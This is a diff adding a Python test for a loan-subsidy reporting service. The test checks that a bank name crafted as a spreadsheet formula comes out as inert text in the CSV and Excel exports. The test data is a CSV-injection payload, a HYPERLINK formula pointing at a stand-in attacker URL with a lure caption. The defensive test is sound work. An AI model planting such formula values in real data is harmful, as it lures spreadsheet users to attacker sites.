@@ -247,3 +247,29 @@ async def test_interest_subsidy_is_rounded_once_per_loan_and_month(desk: Desk) -
     lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
     [mine] = [line for line in lines if line[1] == f"测试银行{code}"]
     assert mine[4:8] == ["3", "0.15", "0.00", "0.05"]
+
+
+async def test_exports_show_a_formula_named_bank_as_text(desk: Desk) -> None:
+    """A bank named like a formula (CSV injection, OWASP): the CSV cell starts with an
+    apostrophe, the Excel cell is text, never a live formula; amounts stay numbers."""
+    evil = '=HYPERLINK("http://evil.example/steal","点此对账")'
+    code = await desk.register_bank(name=evil)
+    await open_batch_with(desk, code, await desk.eligible_applications(1))
+    await desk.deliver()
+    bank = Bank(desk, code)
+    await bank.sign_in()
+    [loan] = desk.bank.of_type("batch.opened")[-1]["data"]["loans"]
+    for kind, data in (("loan.approved", APPROVED), ("loan.disbursed", DISBURSED)):
+        assert (await bank.send(event(kind, loan["loan_id"], **data))).status_code == 200
+    await desk.deliver()
+    url = "/console/reports/subsidies?month_from=2022-11&month_to=2022-11"
+    async with signed_in(desk, "carol") as carol:
+        exported = await carol.get(url + "&format=csv")
+        workbook = await carol.get(url + "&format=xlsx")
+    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    [mine] = [line for line in lines if evil in line[1]]
+    assert mine[1] == "'" + evil and mine[2] == "10138.89"
+    sheet = load_workbook(io.BytesIO(workbook.content)).active
+    [row] = [r for r in sheet.iter_rows() if evil in str(r[1].value)]
+    assert (row[1].data_type, row[1].value) == ("s", "'" + evil)
+    assert row[2].data_type == "n"
